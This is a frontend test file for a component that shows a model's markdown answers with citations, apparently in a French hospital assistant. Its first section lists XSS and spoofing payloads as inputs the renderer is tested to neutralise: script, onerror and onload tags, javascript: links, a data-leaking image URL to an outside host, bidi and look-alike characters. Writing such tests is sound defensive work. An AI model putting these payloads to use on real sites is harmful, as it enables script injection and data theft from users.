import { MantineProvider } from "@mantine/core";
import { cleanup, fireEvent, render, screen, within } from "@testing-library/react";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { Stretch } from "../stream/turnState";
import { Answer } from "./Answer";
import { CitationContext, type CitationScope } from "./citationContext";

const open = vi.fn();
const scope: CitationScope = {
  known: new Set([1, 2]),
  rejected: new Set([9]),
  invented: false,
  documentOf: (number) => (number === 1 ? "protocole.pdf" : null),
  open,
};

function show(text: string, streaming = false, unsupported: Stretch[] = []) {
  const { container } = render(
    <MantineProvider>
      <CitationContext value={scope}>
        <Answer text={text} streaming={streaming} unsupported={unsupported} />
      </CitationContext>
    </MantineProvider>,
  );
  // The provider puts its own styles before it.
  return container.lastElementChild as HTMLElement;
}

afterEach(() => {
  cleanup();
  open.mockClear();
});

describe("what a model's text may not do", () => {
  it.each([
    "<script>window.hacked = 1</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src='https://ailleurs.example'></iframe>",
    "<svg onload=alert(1)>",
    "texte <b onclick=alert(1)>gras</b>",
    "<style>body { display: none }</style>",
    "<form action='https://ailleurs.example'><input name=a></form>",
  ])("shows %s as text", (html) => {
    const page = show(`Avant\n\n${html}\n\naprès ${html}`);
    expect(page.querySelector("script, img, iframe, svg, b, style, form, input, [onerror], [onclick]")).toBeNull();
    expect(page.textContent).toContain(html);
  });

  it("fetches no image, remote or embedded, and shows where one would have come from", () => {
    const page = show(
      "![suivi](https://ailleurs.example/p.png?d=secret) ![a](data:image/png;base64,AAAA) ![b](/api/session) ![c][r]\n\n[r]: https://ailleurs.example/c.png",
    );
    expect(page.querySelector("img, picture, source, video, audio, object, embed")).toBeNull();
    expect(page.innerHTML).not.toMatch(/src=|srcset=|url\(/);
    expect(screen.getByRole("link", { name: /Image non affichée.*suivi/ }).getAttribute("href")).toBe(
      "https://ailleurs.example/p.png?d=secret",
    );
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:a)",
    "[x](/api/session)",
    "[x](https://hopital.fr@ailleurs.example)",
    "<javascript:alert(1)>",
  ])("makes no link of %s", (markdown) => {
    const page = show(markdown);
    expect(page.querySelector("a, [href]")).toBeNull();
  });

  it("opens links elsewhere, without telling them where from, and shows the address", () => {
    const page = show("[le guide](https://exemple.fr/guide) et https://exemple.fr/direct");
    const [named, bare] = within(page).getAllByRole("link");
    expect(named?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(named?.getAttribute("target")).toBe("_blank");
    expect(page.textContent).toBe("le guide (exemple.fr/guide) et https://exemple.fr/direct");
    expect(bare?.getAttribute("href")).toBe("https://exemple.fr/direct");
  });

  it("removes direction overrides", () => {
    expect(show("[facture\u202Efdp.exe](https://exemple.fr/\u202Ex)").textContent).not.toMatch(/[\u202A-\u202E]/);
  });

  it("gives no ids, which could take the place of the page's own", () => {
    const page = show("# content\n\nx[^1]\n\n[^1]: note");
    expect(page.querySelector("[id]")).toBeNull();
  });
});

/** Every block is in sight, so that it is drawn at once; further rows of a table are not. */
class InSight {
  constructor(private readonly seen: (entries: { isIntersecting: boolean }[]) => void) {}
  observe(element: Element) {
    if (element instanceof HTMLDivElement) this.seen([{ isIntersecting: true }]);
  }
  disconnect = () => undefined;
}

describe("what is hard to show", () => {
  beforeEach(() => vi.stubGlobal("IntersectionObserver", InSight));
  afterEach(() => void vi.unstubAllGlobals());

  it("scrolls a huge table by itself, in reach of the keyboard", () => {
    const row = `|${" cellule |".repeat(30)}`;
    const page = show([row, `|${"---|".repeat(30)}`, ...Array<string>(45).fill(row)].join("\n"));
    const region = screen.getByRole("group", { name: /Tableau/ });
    expect(region.getAttribute("tabindex")).toBe("0");
    expect(page.querySelectorAll("table")).toHaveLength(1);
    expect(page.querySelectorAll("th")).toHaveLength(30);
    expect(page.querySelector("table")?.getAttribute("aria-rowcount")).toBe("46");
  });

  it("shows an enormous table without a freeze, and a row that is too heavy as plain text", () => {
    const row = `|${" cellule |".repeat(60)}`;
    const begun = performance.now();
    const page = show([row, `|${"---|".repeat(60)}`, ...Array<string>(3000).fill(row)].join("\n"));
    expect(performance.now() - begun).toBeLessThan(4000);
    expect(page.querySelectorAll("th")).toHaveLength(60);
    cleanup();
    const heavy = show([row, `|${"---|".repeat(60)}`, `| ${"x".repeat(70_000)} |`, ...Array<string>(9).fill(row)].join("\n"));
    expect(heavy.querySelector("table")).toBeNull();
    expect(heavy.textContent).toContain("x".repeat(70_000));
  });

  it("draws a table of ordinary size whole", () => {
    const row = `| ${"mot ".repeat(30)} | b |`;
    const page = show([row, "|---|---|", ...Array<string>(100).fill(row)].join("\n"));
    expect(page.querySelectorAll("tr")).toHaveLength(101);
    expect(screen.queryByRole("button")).toBeNull();
  });

  it("removes characters without width, and shows a host of look-alike letters in plain ones", () => {
    // A Cyrillic « о » stands in the address.
    const page = show("du\u200B texte et [l’hôpital](https://h\u043Epital.fr/)");
    expect(page.textContent).toMatch(/^du texte et l’hôpital \(xn--/);
  });

  it.each([
    ["what a link would carry", "[x](https://ailleurs.example/?nom=Jean#Dupont)", "(ailleurs.example?nom=Jean#Dupont)"],
    ["an open fence", "```\ncode <b>", "code <b>"],
    ["entities", "&lt;script&gt;&#x202e;fin", "<script>fin"],
    ["footnotes", "x[^1]\n\n[^1]: note", "[^1]: note"],
    ["formulas", "$\\int_0^1 x$", "$\\int_0^1 x$"],
  ])("shows %s as it is", (_, text, shown) => {
    expect(show(text).textContent).toContain(shown);
  });

  it.each([
    ["quotations", ">".repeat(20_000)],
    ["brackets", "[".repeat(20_000)],
    ["asterisks", "*a ".repeat(5_000)],
    ["nested lists", Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
    ["open links", "[a](".repeat(5_000)],
    ["autolinks", "a@".repeat(10_000)],
    ["deep quotations", `${"> ".repeat(5_000)}x`],
    ["lists in lists, five thousand deep", Array.from({ length: 5_000 }, (_, depth) => `${" ".repeat(depth * 2)}- x`).join("\n")],
    ["words without a space", "a".repeat(100_000)],
    ["lines of one word", "mot ".repeat(25_000)],
    ["addresses", "https://a.example/ ".repeat(500)],
    ["images", "![a](https://a.example/p.png) ".repeat(300)],
    ["lines of an open fence", `\`\`\`\n${"code\n".repeat(20_000)}`],
  ])("survives many %s", (_, text) => {
    const begun = performance.now();
    expect(show(text).textContent).not.toBe("");
    expect(performance.now() - begun).toBeLessThan(3000);
  });
});

describe("citations", () => {
  it("makes buttons of known numbers, which open the source", () => {
    show("Première phrase. La dose est de **2 g** par jour [1]. Autre [2].");
    fireEvent.click(screen.getByRole("button", { name: /Source 1.*protocole\.pdf/ }));
    expect(open).toHaveBeenCalledWith(1);
    expect(screen.getAllByRole("button")).toHaveLength(2);
  });

  it("leaves other numbers in brackets, code and link texts alone", () => {
    const page = show("Voir [5], `tab[1]` et [le [1]](https://exemple.fr).\n\n    x[1]");
    expect(page.querySelector("button")).toBeNull();
    expect(page.textContent).toContain("[5]");
    expect(page.textContent).toContain("tab[1]");
  });

  it("shows a rejected number without a button", () => {
    const page = show("Selon le texte [9].");
    expect(page.querySelector("button")).toBeNull();
    expect(screen.getByTitle(/ne correspond à aucun passage/).textContent).toBe("[9]");
  });

  it("finds marks in tables, lists and emphasis", () => {
    show("| a |\n|---|\n| x [1] |\n\n- **y [2]**\n- z [1][2]");
    expect(screen.getAllByRole("button")).toHaveLength(4);
  });
});

describe("sentences without a source", () => {
  const stretch = (text: string, sentence: string): Stretch => ({ at: text.indexOf(sentence), length: sentence.length });
  const MARK = /^sans source\./;

  it("marks the sentence and no other, also through bold words and in a list", () => {
    const sentence = "Le bras est **surveillé** chaque jour.";
    const text = `La dose est de 2 g [1].\n\n- Premier point.\n- Avant. ${sentence} Après [2].`;
    const page = show(text, false, [stretch(text, sentence)]);
    const marked = [...page.querySelectorAll("[class*=unsupported]:not(button)")].map((each) => each.textContent);
    expect(marked.join("")).toBe("Le bras est surveillé chaque jour.");
    expect(page.textContent).toContain("chaque jour.sans source Après");
    expect(screen.getAllByRole("button", { name: MARK })).toHaveLength(1);
    expect(screen.getAllByRole("button", { name: /Source/ })).toHaveLength(2);
  });

  it("counts hidden characters as the server does", () => {
    const text = "A\u200Bvant. Sans source ici. Suite.";
    const page = show(text, false, [stretch(text, "Sans source ici.")]);
    expect(page.querySelector("[class*=unsupported]:not(button)")?.textContent).toBe("Sans source ici.");
  });

  it("marks a whole stretch of text when its source is longer than what is shown", () => {
    const text = "Prix&nbsp;: 5 &lt; 6. Suite.";
    const page = show(text, false, [{ at: 0, length: 20 }]);
    expect(page.querySelector("[class*=unsupported]:not(button)")?.textContent).toContain("5 < 6.");
    expect(screen.getAllByRole("button", { name: MARK })).toHaveLength(1);
  });

  it("marks each sentence in its own block", () => {
    const text = "Un faux.\n\nUn vrai.\n\nUn autre faux.";
    const page = show(text, false, [stretch(text, "Un faux."), stretch(text, "Un autre faux.")]);
    expect([...page.querySelectorAll("p")].map((each) => each.querySelector("button") !== null)).toEqual([true, false, true]);
  });

  it("shows the text whole when a place lies outside of it", () => {
    const page = show("Court.", false, [{ at: 400, length: 20 }]);
    expect(page.textContent).toBe("Court.");
  });
});

describe("placeholders that the model made up", () => {
  const text = "Voir [PATIENT_7] et **[DATE_2+5j]**, puis [1] ; `[TEL_1]` et [SIGLE] restent.";
  const told = (invented: boolean) => {
    const { container } = render(
      <MantineProvider>
        <CitationContext value={{ ...scope, invented }}>
          <Answer text={text} streaming={false} />
        </CitationContext>
      </MantineProvider>,
    );
    return [...container.querySelectorAll("[title^=Repère]")].map((each) => each.textContent);
  };

  it("are told to hide nobody, once the server has counted them", () => {
    expect(told(true)).toEqual(["[PATIENT_7]", "[DATE_2+5j]"]);
  });

  it("are text before that, and in a text of the person's own", () => {
    expect(told(false)).toEqual([]);
    expect(document.body.textContent).toContain("Voir [PATIENT_7] et [DATE_2+5j]");
  });
});

describe("streaming", () => {
  it("keeps the elements of finished blocks while the next ones come", () => {
    const view = (text: string) => (
      <MantineProvider>
        <Answer text={text} streaming />
      </MantineProvider>
    );
    const { container, rerender } = render(view("Un.\n\nDeux"));
    const first = container.querySelector("p");
    for (const text of ["Un.\n\nDeux.", "Un.\n\nDeux.\n\nTr", "Un.\n\nDeux.\n\n- Trois\n- Quatre"]) rerender(view(text));
    expect(container.querySelector("p")).toBe(first);
    expect(container.querySelectorAll("li")).toHaveLength(2);
  });
});
